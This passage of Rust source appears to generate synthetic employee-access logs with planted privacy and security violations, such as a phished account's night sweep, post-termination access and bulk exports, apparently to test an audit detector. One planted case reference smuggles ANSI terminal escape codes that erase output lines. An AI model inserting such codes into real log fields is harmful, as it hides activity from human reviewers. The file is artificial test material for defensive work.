            .filter(|(_, s)| *s > 0.0)
            .collect();
        let sum: f64 = shares.iter().map(|s| s.1).sum();
        let mut out = Vec::with_capacity(budget as usize + 16);
        for (role, share) in shares {
            let want = ((budget as f64) * share / sum).round() as usize;
            let people = self.staff_of(role, date);
            if people.is_empty() {
                continue;
            }
            let goal = out.len() + want;
            while out.len() < goal {
                let who = people[self.rng.below(people.len() as u64) as usize];
                let room = goal - out.len();
                self.work_item(d, role, who, room, &mut out);
            }
        }
        // Rounding of the role shares may overshoot; --events is exact.
        out.truncate(budget as usize);
        out
    }

    fn work_item(&mut self, d: i64, role: Role, who: usize, room: usize, out: &mut Vec<Ev>) {
        let emp = self.staff[who].emp_no;
        let ip = self.staff[who].ip.clone();
        let ev = |at: Instant,
                  cust: Option<i64>,
                  op: &'static str,
                  ds: &'static str,
                  reason: &str,
                  r: Option<String>,
                  rows: i64| Ev {
            at,
            emp,
            cust,
            op,
            dataset: ds,
            reason: Some(reason.to_string()),
            case_ref: r,
            ip: ip.clone(),
            rows,
            planted: Vec::new(),
        };
        match role {
            Role::Support => {
                let mut cust =
                    self.support_pool[self.rng.below(self.support_pool.len() as u64) as usize];
                if self.customers[(cust - 10_001) as usize].employee_no == Some(emp) {
                    cust = *self.rng.pick(&self.plain);
                }
                let t0 = self.rand_at(d, 8, 19);
                self.ticket_seq += 1;
                let ticket = format!("CS-{}", self.ticket_seq);
                let k = self.rng.range(2, 7).min(room as i64).max(1);
                let mut t = t0;
                for _ in 0..k {
                    t += Duration::seconds(self.rng.range(30, 480));
                    let ds = if self.rng.chance(0.6) {
                        "contact"
                    } else {
                        "order_history"
                    };
                    let op = *self.rng.pick(&["view", "view", "view", "search", "update"]);
                    let why = if self.rng.chance(0.7) {
                        "support_ticket"
                    } else {
                        "order_issue"
                    };
                    out.push(ev(t, Some(cust), op, ds, why, Some(ticket.clone()), 1));
                }
                let closed = t + Duration::minutes(self.rng.range(5, 600));
                let closed = (closed < self.at(self.day_of(0), 0, 0, 0) || self.rng.chance(0.9))
                    .then_some(closed);
                self.tickets.push(vec![
                    ticket.into(),
                    cust.into(),
                    emp.into(),
                    t0.into(),
                    closed.into(),
                ]);
            }
            Role::ClientManager => {
                let book = &self
                    .books
                    .iter()
                    .find(|b| b.0 == emp)
                    .expect("manager has a book")
                    .1;
                let cust = book[self.rng.below(book.len() as u64) as usize];
                let t = self.rand_at(d, 8, 21);
                let ds = *self
                    .rng
                    .pick(&["contact", "order_history", "preferences", "payment"]);
                out.push(ev(t, Some(cust), "view", ds, "client_service", None, 1));
            }
            Role::Warehouse => {
                let cust = *self.rng.pick(&self.plain);
                let t = self.rand_at(d, 7, 19);
                self.order_seq += 1;
                let order = format!("ORD-{}", self.order_seq);
                let placed = t - Duration::minutes(self.rng.range(60, 2000));
                let shipped = t + Duration::minutes(self.rng.range(30, 1200));
                self.orders.push(vec![
                    order.clone().into(),
                    cust.into(),
                    emp.into(),
                    placed.into(),
                    shipped.into(),
                ]);
                let k = self.rng.range(1, 3).min(room as i64).max(1);
                for j in 0..k {
                    let op = if j == 0 { "view" } else { "print" };
                    let ds = if j == 0 { "order_history" } else { "contact" };
                    out.push(ev(
                        t + Duration::seconds(j * 90),
                        Some(cust),
                        op,
                        ds,
                        "fulfilment",
                        Some(order.clone()),
                        1,
                    ));
                }
            }
            Role::Marketing => {
                let t = self.rand_at(d, 9, 18);
                if self.rng.chance(0.1) {
                    let seg = format!("SEG-{}", self.rng.range(100, 140));
                    out.push(ev(
                        t,
                        None,
                        "export",
                        "contact",
                        "campaign",
                        Some(seg),
                        self.rng.range(40, 300),
                    ));
                } else {
                    let cust = *self.rng.pick(&self.plain);
                    let ds = if self.rng.chance(0.5) {
                        "preferences"
                    } else {
                        "contact"
                    };
                    out.push(ev(t, Some(cust), "view", ds, "marketing", None, 1));
                }
            }
            Role::Finance => {
                let t = self.rand_at(d, 9, 18);
                let cust = *self.rng.pick(&self.plain);
                let why = *self
                    .rng
                    .pick(&["billing", "billing", "refund", "fraud_review"]);
                let ds = if self.rng.chance(0.8) {
                    "payment"
                } else {
                    "order_history"
                };
                out.push(ev(
                    t,
                    Some(cust),
                    "view",
                    ds,
                    why,
                    Some(format!("INV-{}", self.rng.range(40_000, 90_000))),
                    1,
                ));
            }
            Role::Engineering => {
                let t = self.rand_at(d, 9, 18);
                let cust = *self.rng.pick(&self.plain);
                out.push(ev(
                    t,
                    Some(cust),
                    "view",
                    "order_history",
                    "incident_response",
                    Some(format!("INC-{}", self.rng.range(3000, 3400))),
                    1,
                ));
            }
            Role::Legal => {
                let t = self.rand_at(d, 9, 18);
                let pool = if self.legal_customers.is_empty() {
                    &self.plain
                } else {
                    &self.legal_customers
                };
                let cust = *self.rng.pick(pool);
                let ds = *self.rng.pick(&["contact", "order_history", "payment"]);
                out.push(ev(t, Some(cust), "view", ds, "legal_request", None, 1));
            }
            Role::Privacy => {
                let t = self.rand_at(d, 9, 18);
                if self.rng.chance(0.5) && !self.deleted.is_empty() {
                    let cust = *self.rng.pick(&self.deleted);
                    out.push(ev(
                        t,
                        Some(cust),
                        "update",
                        "contact",
                        "deletion_processing",
                        None,
                        1,
                    ));
                } else {
                    let cust = *self.rng.pick(&self.access_requests);
                    out.push(ev(
                        t,
                        Some(cust),
                        "export",
                        "contact",
                        "access_request",
                        None,
                        1,
                    ));
                }
            }
            Role::Contractor => {
                let t = self.rand_at(d, 9, 18);
                let cust = *self.rng.pick(&self.plain);
                out.push(ev(
                    t,
                    Some(cust),
                    "view",
                    "order_history",
                    "qa_testing",
                    None,
                    1,
                ));
            }
        }
    }

    fn support_pool_now(&self) -> Vec<i64> {
        let skip: std::collections::HashSet<i64> = self
            .deleted
            .iter()
            .copied()
            .chain(self.deleted_planted)
            .collect();
        self.customers
            .iter()
            .map(|c| c.id)
            .filter(|id| !skip.contains(id) && !(15_000..15_010).contains(id))
            .collect()
    }
}

impl Gen {
    /// The nearest Monday-to-Friday day index at or before `back` days before the anchor.
    fn weekday_back(&self, back: i64) -> i64 {
        let mut d = self.day_of(back);
        while matches!(
            (self.start + Duration::days(d)).weekday(),
            Weekday::Sat | Weekday::Sun
        ) {
            d -= 1;
        }
        d
    }

    fn ticketed(&mut self, emp: i64, cust: i64, t: Instant) -> String {
        self.ticket_seq += 1;
        let no = format!("CS-{}", self.ticket_seq);
        self.tickets.push(vec![
            no.clone().into(),
            cust.into(),
            emp.into(),
            (t - Duration::minutes(10)).into(),
            (t + Duration::minutes(20)).into(),
        ]);
        no
    }

    fn ev(
        &self,
        at: Instant,
        emp: i64,
        cust: Option<i64>,
        op: &'static str,
        ds: &'static str,
        reason: Option<&str>,
    ) -> Ev {
        let ip = self
            .staff
            .iter()
            .find(|e| e.emp_no == emp)
            .map_or("198.51.100.9".to_string(), |e| e.ip.clone());
        Ev {
            at,
            emp,
            cust,
            op,
            dataset: ds,
            reason: reason.map(str::to_string),
            case_ref: None,
            ip,
            rows: 1,
            planted: Vec::new(),
        }
    }

    fn staff_day(emp: i64, at: Instant) -> String {
        format!("{emp} {}", local_day(at))
    }

    fn customer_of(&self, emp: i64) -> i64 {
        self.customers
            .iter()
            .find(|c| c.employee_no == Some(emp))
            .expect("employee is a customer")
            .id
    }

    /// The planted violations that fall on day `d`.
    fn planted_events(&mut self, d: i64) -> Vec<Ev> {
        let mut out = Vec::new();
        let wd = |g: &Gen, back: i64| g.weekday_back(back);
        if d == self.day_of(12) {
            // Agent 104's account, phished: a night-time sweep from outside.
            let mut vips: Vec<i64> = self
                .customers
                .iter()
                .filter(|c| c.vip)
                .map(|c| c.id)
                .take(8)
                .collect();
            let mut t = self.at(d, 2, 4, 0);
            let mut first = true;
            let mut first_pay = true;
            for k in 0..120usize {
                let cust = if k % 15 == 7 {
                    vips.pop().unwrap_or(self.plain[k])
                } else {
                    self.plain[(k * 53 + 11) % self.plain.len()]
                };
                t += Duration::seconds(self.rng.range(20, 50));
                let pay = k % 10 == 9;
                let mut e = self.ev(
                    t,
                    104,
                    Some(cust),
                    "view",
                    if pay { "payment" } else { "contact" },
                    Some("support_ticket"),
                );
                e.ip = "203.0.113.77".into();
                if first {
                    e.planted.push(("off_hours", String::new()));
                    e.planted.push(("no_relationship", String::new()));
                    e.planted.push(("bulk_access", Self::staff_day(104, t)));
                    e.planted.push(("volume_spike", Self::staff_day(104, t)));
                    first = false;
                }
                if pay && first_pay {
                    e.planted.push(("category_not_permitted", String::new()));
                    first_pay = false;
                }
                if k == 7 {
                    e.planted.push(("vip_access", String::new()));
                }
                out.push(e);
            }
        }
        if d == self.day_of(20) {
            // The instant of termination already counts.
            let left = self
                .staff
                .iter()
                .find(|e| e.emp_no == 117)
                .and_then(|e| e.left_at)
                .expect("117 left");
            let cust = self.plain[101];
            let r = self.ticketed(117, cust, left);
            let mut before = self.ev(
                left - Duration::seconds(1),
                117,
                Some(cust),
                "view",
                "contact",
                Some("support_ticket"),
            );
            before.case_ref = Some(r.clone());
            let mut at = self.ev(
                left,
                117,
                Some(cust),
                "view",
                "contact",
                Some("support_ticket"),
            );
            at.case_ref = Some(r);
            at.planted.push(("after_termination", String::new()));
            out.extend([before, at]);
        }
        if d == wd(self, 6) {
            let t = self.at(d, 10, 0, 0);
            let cust = self.plain[102];
            let r = self.ticketed(117, cust, t);
            let mut e = self.ev(
                t,
                117,
                Some(cust),
                "view",
                "order_history",
                Some("order_issue"),
            );
            e.case_ref = Some(r);
            e.planted.push(("after_termination", String::new()));
            out.push(e);
        }
        if d == wd(self, 9) {
            let t = self.at(d, 11, 15, 0);
            let cust = self.deleted_planted.expect("planted deletion");
            let r = self.ticketed(150, cust, t);
            let mut e = self.ev(
                t,
                150,
                Some(cust),
                "view",
                "order_history",
                Some("order_issue"),
            );
            e.case_ref = Some(r);
            e.planted.push(("access_after_deletion", String::new()));
            out.push(e);
        }
        if d == wd(self, 8) {
            let t = self.at(d, 10, 0, 0);
            let own = self.customer_of(140);
            let r = self.ticketed(140, own, t);
            let mut e = self.ev(
                t,
                140,
                Some(own),
                "view",
                "order_history",
                Some("support_ticket"),
            );
            e.case_ref = Some(r);
            e.planted.push(("self_access", String::new()));
            out.push(e);
            let coworker = self.customer_of(205);
            let mut e = self.ev(
                t + Duration::minutes(30),
                181,
                Some(coworker),
                "view",
                "payment",
                Some("billing"),
            );
            e.planted.push(("coworker_access", String::new()));
            out.push(e);
            let mut e = self.ev(
                t + Duration::minutes(40),
                182,
                Some(15_000),
                "view",
                "payment",
                Some("billing"),
            );
            e.planted.push(("family_access", String::new()));
            out.push(e);
            let mut e = self.ev(
                t + Duration::minutes(50),
                183,
                Some(15_001),
                "view",
                "order_history",
                Some("refund"),
            );
            e.planted.push(("family_access", String::new()));
            out.push(e);
            let mut e = self.ev(
                t + Duration::minutes(5),
                9999,
                Some(self.plain[103]),
                "export",
                "payment",
                Some("billing"),
            );
            e.ip = "198.51.100.23".into();
            e.planted.push(("unknown_staff", Self::staff_day(9999, t)));
            let mut e2 = self.ev(
                t + Duration::minutes(6),
                9999,
                None,
                "export",
                "payment",
                Some("billing"),
            );
            e2.ip = "198.51.100.23".into();
            e2.rows = 40;
            out.extend([e, e2]);
        }
        if d == wd(self, 7) {
            let vip = self
                .customers
                .iter()
                .rev()
                .find(|c| c.vip)
                .expect("a VIP")
                .id;
            let mut e = self.ev(
                self.at(d, 10, 30, 0),
                180,
                Some(vip),
                "view",
                "payment",
                Some("billing"),
            );
            e.planted.push(("vip_access", String::new()));
            out.push(e);
            let mut e = self.ev(
                self.at(d, 22, 15, 0),
                180,
                Some(self.plain[104]),
                "view",
                "payment",
                Some("billing"),
            );
            e.planted.push(("off_hours", String::new()));
            out.push(e);
            // Working hours end at 20:00: the instant of 20:00:00 is outside.
            let mut e = self.ev(
                self.at(d, 20, 0, 0),
                179,
                Some(self.plain[105]),
                "view",
                "payment",
                Some("refund"),
            );
            e.planted.push(("off_hours", String::new()));
            out.push(e);
            let mut e = self.ev(
                self.at(d, 19, 59, 59),
                179,
                Some(self.plain[105]),
                "view",
                "payment",
                Some("refund"),
            );
            e.planted.clear();
            out.push(e);
        }
        if d == wd(self, 5) {
            let t = self.at(d, 9, 0, 0);
            for (k, (reason, ds, op, rule)) in [
                (None, "contact", "view", "no_purpose"),
                (
                    Some("curiosity"),
                    "contact",
                    "view",
                    "purpose_not_permitted",
                ),
                (
                    Some("support_ticket"),
                    "payment",
                    "view",
                    "category_not_permitted",
                ),
                (
                    Some("support_ticket"),
                    "contact",
                    "export",
                    "action_not_permitted",
                ),
            ]
            .into_iter()
            .enumerate()
            {
                let at = t + Duration::minutes(k as i64 * 7);
                let cust = self.plain[110 + k];
                let r = self.ticketed(110, cust, at);
                let mut e = self.ev(at, 110, Some(cust), op, ds, reason);
                e.case_ref = Some(if k == 3 {
                    format!("{r}\u{1b}[2K\u{1b}[1A")
                } else {
                    r
                });
                e.planted.push((rule, String::new()));
                out.push(e);
            }
            let mut e = self.ev(
                t + Duration::hours(2),
                111,
                Some(self.plain[120]),
                "view",
                "contact",
                Some("support_ticket"),
            );
            e.planted.push(("no_relationship", String::new()));
            out.push(e);
        }
        if d == wd(self, 4) {
            let t = self.at(d, 11, 0, 0);
            let mut e = self.ev(t, 168, None, "export", "contact", Some("campaign"));
            e.rows = 12_000;
            e.case_ref = Some("SEG-ALL-ACTIVE".into());
            e.planted.push(("bulk_export", String::new()));
            e.planted.push(("bulk_records", Self::staff_day(168, t)));
            out.push(e);
            let cust = self.opted_out_planted.expect("planted opt-out");
            let mut e = self.ev(
                t + Duration::minutes(20),
                168,
                Some(cust),
                "view",
                "contact",
                Some("marketing"),
            );
            e.planted.push(("opt_out_ignored", String::new()));
            out.push(e);
            let mut e = self.ev(
                t + Duration::minutes(30),
                170,
                Some(self.plain[121]),
                "update",
                "contact",
                Some("campaign"),
            );
            e.planted.push(("action_not_permitted", String::new()));
            out.push(e);
            let mut e = self.ev(
                t + Duration::hours(1),
                184,
                None,
                "print",
                "payment",
                Some("billing"),
            );
            e.rows = 2_600;
            e.case_ref = Some("STATEMENT-RUN".into());
            e.planted
                .push(("bulk_records", Self::staff_day(184, t + Duration::hours(1))));
            out.push(e);
        }
        out
    }
}
